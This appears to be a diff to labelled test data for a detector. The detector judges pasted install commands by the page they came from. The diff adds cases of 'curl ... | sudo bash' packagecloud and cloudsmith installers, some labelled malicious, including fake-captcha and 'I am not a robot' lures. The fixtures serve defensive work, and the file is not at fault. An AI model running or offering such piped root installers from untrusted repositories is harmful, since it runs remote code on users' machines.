@@ -42,7 +42,9 @@ Principles:
 - `resource-folder`: a company's resource.<company> host keeping the product in a folder named
   after it. Look-alikes: another folder, a forum, another label, a page about something else.
 - `package-repository`: a package host's repository named by the site's core (alone or with an
-  installer word). Look-alikes: another word, a forum, a page about something else, a tail.
+  installer word), or by a question or a tutorial about it (the repository's or the account's
+  exact name, as for a forge repository). Look-alikes: another word, a forum, a page about
+  another program or something else, a check page, a download word, a topic word, a tail.
 - `publisher-repository`: a company's own forge account's README vouches for the hosts the
   company serves from (github.com/microsoft/… and aka.ms). Look-alikes: its issues, a look-alike
   account, a stranger's account, a gist, the Run box, a hidden window.
@@ -665,7 +667,24 @@ def package_repository(book: Book) -> None:
         ("curl -s https://packagecloud.io/install/repositories/tidecorp/loamdb/script.rpm.sh | sudo bash", "not_flagged", "https://loamdb.io/docs/install/rpm", TERMINAL),
         ("curl -1sLf https://dl.cloudsmith.io/public/quillcorp/quillix-installer/setup.deb.sh | sudo -E bash", "not_flagged", "https://docs.quillix.app/linux", TERMINAL),
     ])  # fmt: skip
+    # a page about the repository's program, quoting it: a question, a tutorial naming the
+    # repository or the account (as for a forge repository)
+    add_all(book, "package-repository", [
+        ("curl -s https://packagecloud.io/install/repositories/brindleworks/ferrox-cli/script.deb.sh | sudo bash", "not_flagged", "https://askubuntu.com/questions/1502291/install-ferrox-cli-from-brindleworks", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/tidecorp/loamdb/script.deb.sh | sudo bash", "not_flagged", "https://www.shellnotes.example/how-to-install-loamdb-on-ubuntu-24-04/", TERMINAL),
+        ("curl -1sLf https://dl.cloudsmith.io/public/quillcorp/quillix/setup.deb.sh | sudo -E bash", "not_flagged", "https://dev.to/ops-notes/setting-up-quillix-on-debian-3kd1", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/brindleworks/ferrox-cli/script.deb.sh | sudo bash", "not_flagged", "https://unix.stackexchange.com/questions/771001/brindleworks-repository-gpg-error", TERMINAL),
+    ])  # fmt: skip
     add_all(book, "package-repository-lure", [
+        # a page about another program, with a check page's address, about something else;
+        # a repository named with a download word
+        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/install-loamdb-on-ubuntu", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://ferrox-cli.pages.example/captcha/verify-human", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://www.harbour-bistro.example/recipes/winter-soup", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/anyone/get-ferrox/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/get-ferrox-on-ubuntu", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/anyone/docker/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/install-docker-on-ubuntu", TERMINAL),
+        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash # ✅ I am not a robot", "malicious", "https://askubuntu.com/questions/1502291/install-ferrox-cli", TERMINAL),
+
         ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-helper/script.deb.sh | sudo bash", "flagged", "https://www.ferrox.net/apps/cli", TERMINAL),
         ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "flagged", "https://forum.ferrox.net/t/install/5", TERMINAL),
         ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://www.ferrox.net/menu/winter", TERMINAL),
